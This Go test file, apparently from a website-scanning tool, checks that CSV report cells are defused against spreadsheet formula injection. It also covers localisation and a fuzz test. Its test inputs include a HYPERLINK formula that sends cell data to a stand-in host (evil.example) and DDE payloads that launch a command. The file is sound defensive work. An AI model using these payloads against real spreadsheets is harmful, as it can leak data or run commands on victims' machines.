package report

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"

	"vigie/finding"
)

func TestDefuseCell(t *testing.T) {
	tests := []struct{ in, want string }{
		{"", ""},
		{"plain", "plain"},
		{"=1+1", "'=1+1"},
		{"+33 1 23 45 67 89", "'+33 1 23 45 67 89"},
		{"-2+3", "'-2+3"},
		{"@SUM(A1:A2)", "'@SUM(A1:A2)"},
		{"\t=cmd", "'\t=cmd"},
		{"\r=cmd", "'\r=cmd"},
		{"a=b", "a=b"},
		{"'quoted", "'quoted"},
		{`{"a":1}`, `{"a":1}`},
	}
	for _, tt := range tests {
		if got := defuseCell(tt.in); got != tt.want {
			t.Errorf("defuseCell(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
}

// Values a hostile site controls must not reach a spreadsheet as formulas.
func TestCSVFormulaInjection(t *testing.T) {
	const site = "https://evil.example/"
	hostile := []string{
		`=HYPERLINK("http://evil.example/?"&A1,"click")`,
		"+cmd|' /C calc'!A0",
		"-2+3+cmd|' /C calc'!A0",
		"@SUM(1+1)*cmd|' /C calc'!A0",
		"\t=1+1",
		"\r=1+1",
	}
	var sites []*Site
	for i, h := range hostile {
		f := finding.Finding{
			ID: h, Check: "x.unknown" + strings.Repeat("x", i), Severity: finding.High, Confidence: h,
			Site: site, URL: h, Organisation: h, Title: h, Legal: []string{h},
		}
		sites = append(sites, &Site{URL: site, Organisation: h, Findings: []finding.Finding{f}})
	}
	sites = append(sites, &Site{URL: hostile[0], Organisation: hostile[1], Error: hostile[2], ErrorKind: hostile[3]})

	out := render(t, "csv", Options{}, sites, Scan{})
	rows, err := csv.NewReader(bytes.NewReader(out)).ReadAll()
	if err != nil {
		t.Fatalf("output is not valid CSV: %v\n%s", err, out)
	}
	if got := strings.Join(rows[0], ","); got != strings.Join(csvHeader, ",") {
		t.Fatalf("header = %s", got)
	}
	if len(rows) != len(sites)+1 {
		t.Fatalf("%d rows, want %d", len(rows), len(sites)+1)
	}
	checked := 0
	for _, row := range rows[1:] {
		for col, cell := range row {
			if cell == "" {
				continue
			}
			switch cell[0] {
			case '=', '+', '-', '@', '\t', '\r':
				t.Errorf("column %s starts a formula: %q", csvHeader[col], cell)
			}
			if strings.HasPrefix(cell, "'") {
				checked++
			}
		}
	}
	if checked == 0 {
		t.Fatal("no cell was defused; the test does not exercise anything")
	}
	// The original text survives after the apostrophe.
	if rows[1][6] != "'"+hostile[0] {
		t.Errorf("organisation cell = %q", rows[1][6])
	}
	last := rows[len(rows)-1]
	if last[1] != "" || last[12] != "'"+hostile[2] || last[13] != "'"+hostile[3] {
		t.Errorf("site-error row = %q", last)
	}
}

func TestCSVTitleLanguage(t *testing.T) {
	f := finding.Finding{Check: "test.alpha", Title: "stale", Severity: finding.High, Site: "https://a.example/", URL: "https://a.example/"}
	out := render(t, "csv", Options{Lang: "fr"}, []*Site{{URL: f.Site, Findings: []finding.Finding{f}}}, Scan{})
	rows, err := csv.NewReader(bytes.NewReader(out)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if got := rows[1][7]; got != "Formulaire de données personnelles servi en HTTP" {
		t.Errorf("title = %q", got)
	}
}

// Whatever a site puts in a cell, the CSV read back never starts a formula
// and keeps the text after the guard.
func FuzzDefuseCell(f *testing.F) {
	for _, s := range []string{"", "=1+1", "+", "-", "@", "\t", "\r", "plain", "'x", "\"=\"", "é=1"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		var b bytes.Buffer
		w := csv.NewWriter(&b)
		if err := w.Write([]string{defuseCell(s)}); err != nil {
			t.Fatal(err)
		}
		w.Flush()
		rows, err := csv.NewReader(&b).ReadAll()
		if err != nil {
			t.Skip() // csv cannot round-trip some inputs (e.g. invalid UTF-8 or lone CR); not ours to fix
		}
		if len(rows) != 1 || len(rows[0]) != 1 {
			t.Skip()
		}
		cell := rows[0][0]
		if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
			t.Errorf("defuseCell(%q) read back as %q", s, cell)
		}
	})
}
